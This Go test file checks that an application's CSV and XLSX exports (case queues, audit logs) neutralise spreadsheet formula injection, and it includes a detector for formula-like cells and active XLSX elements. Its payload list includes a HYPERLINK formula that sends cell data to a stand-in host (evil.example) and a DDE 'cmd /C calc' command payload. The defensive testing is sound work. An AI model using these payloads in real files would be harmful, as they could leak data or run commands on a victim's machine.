package hostile

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"hearth/internal/apptest"
	"hearth/internal/desk"
	"hearth/internal/people"
	"hearth/internal/people/roster"
	"hearth/internal/platform/audit"
	"hearth/internal/platform/authz"
	"hearth/internal/platform/sheet"
	"hearth/internal/platform/store"
)

// formulas are texts that begin with every sign a spreadsheet takes for a formula, bare and behind what some of them leave out, and texts that their formats read as others.
func formulas() []string {
	var all []string
	for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "−"} {
		for _, before := range []string{"", "'", "''", "\"", "\u00a0", "\u200b", "\ufeff", "a;", "a\t", "a\n", "a\r\n", "a\r", "\"a\";"} {
			all = append(all, before+sign+"1+1")
		}
		all = append(all, sign, sign+"HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", sign+"cmd|' /C calc'!A0")
	}
	return append(all, "_x0041_", "_x005F_x003D_1", "_x0041", "\t=1", "\r=1", "\n=1", "'", "''", "'a", "it's = 1", ";", ";;=1", "\"", "\"\"", "a\",=1", "a,\"=1\"")
}

// formulaOf reports the part of a cell of a CSV file that a spreadsheet of some country could take for a formula: it looks at each place where a cell may begin, behind what is
// not seen there. An apostrophe is seen.
func formulaOf(cell string) string {
	if cell != "" && strings.ContainsAny(cell[:1], "\t\r\n") {
		return cell
	}
	for part := range strings.FieldsFuncSeq(cell, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
		shown := strings.TrimLeftFunc(part, func(r rune) bool { return r == '"' || unicode.IsSpace(r) || unicode.In(r, unicode.Cf, unicode.Cc) })
		for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "﹦", "﹢", "﹣", "﹫"} {
			if strings.HasPrefix(shown, sign) {
				return part
			}
		}
	}
	return ""
}

// cellsOf reads a file as who wrote spreadsheets reads it, without this product's help: complaints say what in it could run.
func cellsOf(body string) (rows [][]string, complaints []string, err error) {
	if !strings.HasPrefix(body, "PK") {
		rows, err = csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
		for _, row := range rows {
			for i, cell := range row {
				if part := formulaOf(cell); part != "" {
					complaints = append(complaints, "a cell may become a formula: "+part)
				}
				row[i] = sheet.Plain(cell)
			}
		}
		return rows, complaints, err
	}
	if complaints, err = running(body); err != nil {
		return nil, nil, err
	}
	book, err := excelize.OpenReader(strings.NewReader(body))
	if err != nil {
		return nil, nil, err
	}
	rows, err = book.GetRows(book.GetSheetName(0), excelize.Options{RawCellValue: true})
	return rows, complaints, err
}

// running returns what of a spreadsheet runs or leads away.
func running(body string) (found []string, err error) {
	book, err := zip.NewReader(strings.NewReader(body), int64(len(body)))
	if err != nil {
		return nil, err
	}
	for _, f := range book.File {
		part, err := f.Open()
		if err != nil {
			return nil, err
		}
		for d := xml.NewDecoder(part); ; {
			token, err := d.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				return nil, err
			}
			if e, ok := token.(xml.StartElement); ok && slices.Contains([]string{"f", "hyperlink", "hyperlinks", "definedName", "externalReference", "oleObject", "control"}, e.Name.Local) {
				found = append(found, f.Name+" holds <"+e.Name.Local+">")
			}
		}
	}
	return found, nil
}

// told is what a product keeps, by what names it in the file.
type told map[string]string

// compare holds a column of a file against what is kept, by another column.
func compare(t *testing.T, what string, rows [][]string, key, column int, want told) {
	t.Helper()
	seen := 0
	for _, row := range rows[1:] {
		kept, known := want[row[key]]
		if !known {
			continue
		}
		seen++
		if cell := append(slices.Clone(row), make([]string, len(rows[0]))...)[column]; cell != kept && cell != strings.ReplaceAll(kept, "\r\n", "\n") { // which is how the library reads CSV
			t.Errorf("%s: %q is kept, and the file has %q", what, kept, cell)
		}
	}
	if seen != len(want) {
		t.Errorf("%s: %d of %d are in the file", what, seen, len(want))
	}
}

// names gives people the strings as names, as far as the directory takes them, and returns what it keeps by id.
func (w *world) names(all []string) told {
	w.t.Helper()
	kept, refused := told{}, 0
	for _, s := range all {
		p, err := w.People.AddPerson(w.t.Context(), w.Actor(authz.Desk, "noor"), people.SavePerson{GivenName: s, FamilyName: s, PersonnelNumber: w.next()})
		if err != nil {
			refused++
			continue
		}
		kept[p.ID] = p.DisplayName()
	}
	w.t.Logf("%d names, %d refused", len(kept), refused)
	return kept
}

// Every text goes out in both lists, as a subject and as a name, in both formats, and comes back as it is kept; none is a formula.
func TestExportsAreTexts(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, w *world) {
		ctx, all := t.Context(), append(formulas(), arsenal(t)...)
		all = slices.DeleteFunc(all, func(s string) bool { return !utf8.ValidString(s) || strings.ContainsRune(s, 0) }) // no address takes these
		some := all
		if !long() {
			some = all[:len(formulas())+60]
		}
		if w.DB.Dialect() == store.Postgres && !long() {
			all = some
		}
		names := w.names(some)
		subjects, persons, refused := told{}, told{}, 0
		ids := make([]string, 0, len(names))
		for id := range names {
			ids = append(ids, id)
		}
		for i, s := range all {
			who := ids[i%len(ids)]
			c, err := w.App.App.Desk.Open(ctx, authz.Actor{PersonID: who, Face: authz.Portal}, desk.Open{Subject: s, Body: "It is wrong.", Service: "hours"})
			if err != nil {
				refused++ // too long, or nothing but space
				continue
			}
			stored, err := store.One[string](ctx, w.DB, `SELECT subject FROM desk_case WHERE id = $1`, c.ID)
			if err != nil {
				t.Fatal(err)
			}
			subjects[c.Number], persons[c.Number] = stored, names[who]
		}
		t.Logf("%d subjects, %d refused", len(subjects), refused)
		for _, path := range []string{"/desk/queue.csv?view=open", "/api/v1/cases.xlsx?view=open"} {
			who := map[bool]string{true: "marta desk", false: "marta api"}[strings.HasPrefix(path, "/desk")]
			body := w.as(who).Get(path).Is(http.StatusOK).Text
			rows, complaints, err := cellsOf(body)
			if err != nil || len(complaints) > 0 {
				t.Fatalf("%s: %v %q", path, err, complaints)
			}
			compare(t, path+": the subject", rows, 0, 1, subjects)
			compare(t, path+": the person", rows, 0, 3, persons)
			imported, err := roster.Read([]byte(body))
			if err != nil {
				t.Fatal(err)
			}
			read := [][]string{imported.Header}
			for _, row := range imported.Rows {
				read = append(read, row.Cells)
			}
			compare(t, path+": the subject, imported", read, 0, 1, subjects)
			compare(t, path+": the person, imported", read, 0, 3, persons)
		}
		w.sights(t, names)
	})
}

// sights takes along who saw Amina's record: everybody of names did, each for a team of their own, by whose name they are found again.
func (w *world) sights(t *testing.T, names told) {
	want, err := told{}, error(nil)
	w.Clock.Advance(24 * time.Hour)
	from := w.DB.Now()
	err = w.DB.Tx(t.Context(), func(tx *store.Tx) error {
		for id, name := range names {
			want[id] = name
			if err := w.Audit.Record(t.Context(), tx, audit.Entry{By: authz.Actor{PersonID: id, Face: authz.Desk}, Action: "case.read", Kind: "case", Object: id, Person: apptest.ID("amina"), Team: id}); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{"/admin/audit.csv", "/admin/audit.xlsx"} {
		rows, complaints, err := cellsOf(w.as("lena desk").Get(path + "?person=1003&from=" + from.UTC().Format(time.RFC3339)).Is(http.StatusOK).Text)
		if err != nil || len(complaints) > 0 {
			t.Fatalf("%s: %v %q", path, err, complaints)
		}
		compare(t, path+": who", rows, 2, 1, want)
	}
}

// What the check of exports is for it finds: a bare formula in CSV, one behind what is not seen, an element that runs in XLSX, a changed and a missing text.
func TestAFormulaInAnExportIsFound(t *testing.T) {
	t.Parallel()
	for _, cell := range []string{"=1", " =1", "\u200b+1", "\t", "a;@x", "a\n-1", "\"=1", "＝1"} {
		var b bytes.Buffer
		c := csv.NewWriter(&b)
		if err := c.Write([]string{"x", cell}); err != nil {
			t.Fatal(err)
		}
		c.Flush()
		if _, complaints, err := cellsOf(b.String()); err != nil || len(complaints) != 1 {
			t.Errorf("%q: %v %q", cell, err, complaints)
		}
	}
	for _, cell := range []string{"'=1", "1+1", "a=b", "a;'=1", "O'Neill - x", ""} {
		if part := formulaOf(cell); part != "" {
			t.Errorf("%q is harmless", cell)
		}
	}
	book := excelize.NewFile()
	if err := book.SetCellFormula("Sheet1", "A1", "1+1"); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := book.Write(&b); err != nil {
		t.Fatal(err)
	}
	if found, err := running(b.String()); err != nil || len(found) != 1 {
		t.Errorf("a formula in XLSX: %q, %v", found, err)
	}
	for _, rows := range [][][]string{{{"K", "T"}, {"1", "b"}}, {{"K", "T"}, {"2", "a"}}} {
		probe := &testing.T{}
		compare(probe, "planted", rows, 0, 1, told{"1": "a"})
		if !probe.Failed() {
			t.Errorf("%q passes for what is kept", rows)
		}
	}
}
